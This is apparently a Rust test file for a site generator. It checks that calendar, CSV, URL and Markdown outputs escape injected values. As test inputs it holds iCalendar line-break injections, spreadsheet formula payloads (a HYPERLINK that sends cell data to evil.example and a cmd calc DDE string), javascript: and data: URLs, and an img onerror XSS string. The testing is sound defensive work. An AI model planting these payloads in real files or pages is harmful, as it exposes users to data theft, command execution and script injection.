//! Calendar lines, CSV formulas, URL schemes and Markdown in `diff`: what
//! a calendar app, a spreadsheet, a browser and a pull-request comment see
//! when a content author writes values meant to inject into them.

use crate::support::{Ran, Site, command, copy_dir, fixture};
use ical::parser::ical::component::IcalEvent;
use pulldown_cmark::{Event, Options, Parser};

const AS_OF: &str = "2026-04-01";

/// An RFC 5545 line break followed by a property of the attacker's choice,
/// as a YAML double-quoted string can write it.
const BREAK: &str = r"\r\nATTACH:http://evil.example/x\nORGANIZER:mailto:boss@evil.example";

fn site() -> Site {
    Site::from_fixture("valid").as_of(AS_OF)
}

/// Every calendar of the build as the `ical` crate reads it: (file, the
/// calendar's own property names, its events).
fn calendars(built: &crate::support::Built) -> Vec<(String, Vec<String>, Vec<IcalEvent>)> {
    built
        .files()
        .into_iter()
        .filter(|f| f.ends_with(".ics"))
        .map(|file| {
            let bytes = built.bytes(&file);
            let mut parser = ical::IcalParser::new(bytes.as_slice());
            let calendar = parser
                .next()
                .unwrap_or_else(|| panic!("{file}: no calendar"))
                .unwrap_or_else(|e| panic!("{file}: {e}"));
            assert!(parser.next().is_none(), "{file}: one calendar");
            let names = calendar.properties.iter().map(|p| p.name.clone()).collect();
            (file, names, calendar.events)
        })
        .collect()
}

#[test]
fn line_breaks_in_titles_names_and_notes_add_no_calendar_property() {
    let site = site();
    site.edit("playbook.yaml", |text| {
        format!(
            "{}\nbase_url: https://intranet.example/Programm-Über/\n",
            text.replace(
                "title: Fixture Programme",
                &format!("title: \"Fixture Programme{BREAK}\"")
            )
        )
    });
    site.edit("content/sessions/01-kickoff.md", |text| {
        text.replace("title: Kickoff", &format!("title: \"Kickoff{BREAK}\""))
    });
    site.edit("data/people.yaml", |text| {
        text.replace("name: Dana Developer", &format!("name: \"Dana{BREAK}\""))
    });
    site.edit("content/cohort.md", |text| {
        text.replace(
            "notes: Good start",
            &format!("notes: \"Good start{BREAK}\", time: 14:00, location: \"Room 1{BREAK}\""),
        )
    });
    let built = site.build();
    let calendars = calendars(&built);
    assert!(calendars.len() >= 3, "{:?}", built.files());
    let expected = [
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "LOCATION",
        "DESCRIPTION",
        "URL",
        "TRANSP",
        "STATUS",
    ];
    let mut urls = Vec::new();
    for (file, names, events) in &calendars {
        assert_eq!(
            names,
            &["VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME"],
            "{file}"
        );
        for event in events {
            for property in &event.properties {
                assert!(
                    expected.contains(&property.name.as_str()),
                    "{file}: {} injected",
                    property.name
                );
                let value = property.value.as_deref().unwrap_or_default();
                if property.name == "URL" {
                    urls.push(value.to_string());
                }
            }
        }
    }
    // The address is a valid URI: non-ASCII letters percent-encoded.
    assert!(
        urls.contains(
            &"https://intranet.example/Programm-%C3%9Cber/pairs/dana-and-farah/".to_string()
        ),
        "{urls:?}"
    );
    assert!(urls.iter().all(|u| u.is_ascii()), "{urls:?}");
    // The injected text is still there, as text: escaped and harmless.
    let dana = &calendars
        .iter()
        .find(|(file, ..)| file == "pairs/dana-and-farah/sessions.ics")
        .expect("Dana's calendar")
        .2;
    let notes = dana[0]
        .properties
        .iter()
        .find(|p| p.name == "DESCRIPTION")
        .and_then(|p| p.value.clone());
    let location = dana[0].properties.iter().find(|p| p.name == "LOCATION");
    assert_eq!(
        location.and_then(|p| p.value.as_deref()),
        Some(r"Room 1\nATTACH:http://evil.example/x\nORGANIZER:mailto:boss@evil.example")
    );
    // Then the session guide's and the pair page's addresses, each on a
    // line of its own.
    assert_eq!(
        notes.as_deref(),
        Some(concat!(
            r"Good start\nATTACH:http://evil.example/x\nORGANIZER:mailto:boss@evil.example",
            r"\nSession guide: https://intranet.example/Programm-%C3%9Cber/sessions/01-kickoff/",
            r"\nPair page: https://intranet.example/Programm-%C3%9Cber/pairs/dana-and-farah/"
        ))
    );
}

/// A CSV export as a spreadsheet would get it, read with the csv crate.
fn csv_rows(built: &crate::support::Built, file: &str) -> Vec<csv::StringRecord> {
    let bytes = built.bytes(file);
    csv::Reader::from_reader(bytes.as_slice())
        .records()
        .map(|r| r.expect("row"))
        .collect()
}

#[test]
fn csv_cells_that_would_run_as_formulas_start_with_a_quote_and_numbers_stay_numbers() {
    let site = site();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Open")"#;
    site.edit("content/goals.md", |text| {
        text.replace(
            "title: Leaders' digital confidence",
            &format!("title: '{}'", formula.replace('\'', "''")),
        )
        .replace("unit: points", "unit: \"@SUM(1+1)*cmd|' /C calc'!A0\"")
        .replace("baseline: 2.0", "baseline: -3")
        .replace(
            "{date: 2026-03-01, value: 2.5}",
            "{date: 2026-03-01, value: -2.5}",
        )
    });
    site.edit("data/people.yaml", |text| {
        text.replace("name: Dana Developer", "name: \"+1+2\"")
            .replace("name: Farah Finance", "name: \"-1+2\"")
    });
    site.edit("content/cohort.md", |text| {
        text.replace(
            "topics: [Chat tools, Shared documents]",
            "topics: [\"\\tTab\", \"\\rReturn\"]",
        )
    });
    let built = site.build();

    let goals = csv_rows(&built, "goals.csv");
    let confidence = &goals[0];
    assert_eq!(&confidence[1], format!("'{formula}"));
    assert_eq!(&confidence[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
    // baseline, latest and progress: real numbers, negative ones included.
    assert_eq!(confidence[4].parse::<f64>().ok(), Some(-3.0));
    assert_eq!(confidence[6].parse::<f64>().ok(), Some(-2.5));
    assert_eq!(confidence[8].parse::<f64>().ok(), Some(7.1));

    let pairs = csv_rows(&built, "progress.csv");
    let dana = pairs
        .iter()
        .find(|r| &r[2] == "dana-and-farah")
        .expect("pair");
    assert_eq!((&dana[3], &dana[4]), ("'+1+2", "'-1+2"));
    // topics is the last column
    assert_eq!(&dana[dana.len() - 1], "'\tTab; \rReturn");
    assert_eq!(dana[8].parse::<u32>().ok(), Some(2));
    for row in goals.iter().chain(&pairs) {
        for cell in row {
            let dangerous = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!dangerous, "{cell:?} in {row:?}");
        }
    }
}

#[test]
fn check_refuses_addresses_that_are_not_http() {
    for (key, value) in [
        ("base_url", "javascript:alert(1)"),
        ("edit_url", "javascript:alert(document.cookie)//"),
        ("edit_url", "data:text/html,<script>alert(1)</script>"),
        (
            "base_url",
            "\"https://intranet.example/\\r\\nURL:http://evil.example\"",
        ),
    ] {
        let site = site();
        site.edit("playbook.yaml", |text| format!("{text}{key}: {value}\n"));
        let ran = site.run("check", ["--format", "json"]);
        assert_eq!(ran.status().code(), Some(1), "{key}: {value}");
        let diagnostics = ran.json();
        let found = diagnostics
            .as_array()
            .expect("array")
            .iter()
            .find(|d| d["file"] == "playbook.yaml")
            .unwrap_or_else(|| panic!("{key}: {value}: {diagnostics}"));
        assert_eq!(found["code"], "bad-value");
        assert_eq!(
            (found["line"].as_u64(), found["col"].as_u64()),
            (Some(4), Some(11))
        );
        assert!(
            found["message"].as_str().is_some_and(|m| m.contains(key)),
            "{found}"
        );
        assert!(
            found["hint"]
                .as_str()
                .is_some_and(|h| h.contains("https://")),
            "{found}"
        );
        // The build refuses it too, and no page links it.
        let built = site.try_build();
        assert!(!built.status().success());
    }
}

#[test]
fn the_base_url_flag_must_be_a_web_address_too() {
    let site = site();
    let ran = site.run("build", ["--base-url", "javascript:alert(1)"]);
    assert_eq!(ran.status().code(), Some(2), "{}", ran.stderr());
    assert!(ran.stderr().contains("`--base-url` must be a web address"));
    let fine = site.run(
        "build",
        [
            "--base-url",
            "https://intranet.example/mentoring/",
            "--as-of",
            AS_OF,
        ],
    );
    assert!(fine.status().success(), "{}", fine.stderr());
}

#[test]
fn diff_shows_titles_and_references_as_text_not_markdown() {
    let tmp = tempfile::tempdir().expect("tmp");
    let (base, head) = (tmp.path().join("base"), tmp.path().join("head"));
    copy_dir(&fixture("diff").join("base"), &base);
    copy_dir(&fixture("diff").join("head"), &head);
    let step = head.join("content/guide/02-pair-people.md");
    let pwned = "# Pwned ![x](http://evil.example/x.png) @everyone [see](http://evil.example) #123 <img src=x onerror=alert(1)>";
    let text = std::fs::read_to_string(&step).expect("step");
    std::fs::write(
        &step,
        text.replace("title: Pair people", &format!("title: '{pwned}'")),
    )
    .expect("write");
    let mut diff = command(["diff"]);
    diff.arg(&base).arg(&head).args(["--as-of", AS_OF]);
    let out = Ran::of(diff).expect_success().stdout();

    // The raw comment: every Markdown character escaped, mentions and
    // issue references broken by a zero-width joiner.
    let zwj = '\u{200D}';
    assert!(
        out.contains(&format!(
            r"\#{zwj} Pwned \!\[x\]\(http\://evil\.example/x\.png\) \@{zwj}everyone"
        )),
        "{out}"
    );
    // What GitHub's Markdown shows: one heading (the summary's own), no
    // image, link or HTML, and the title as plain text.
    let mut headings = 0;
    let mut shown = String::new();
    for event in Parser::new_ext(&out, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
        match event {
            Event::Start(pulldown_cmark::Tag::Heading { .. }) => headings += 1,
            Event::Start(
                tag @ (pulldown_cmark::Tag::Image { .. } | pulldown_cmark::Tag::Link { .. }),
            ) => panic!("{tag:?} in\n{out}"),
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML {html} in\n{out}"),
            Event::Text(text) => shown.push_str(&text),
            _ => {}
        }
    }
    assert_eq!(headings, 1, "{out}");
    assert!(
        shown.contains(&format!(
            "#{zwj} Pwned ![x](http://evil.example/x.png) @{zwj}everyone [see](http://evil.example) #{zwj}123 <img src=x onerror=alert(1)>"
        )),
        "{shown:?}"
    );
    assert!(!shown.contains("@everyone") && !shown.contains("#123"));
}
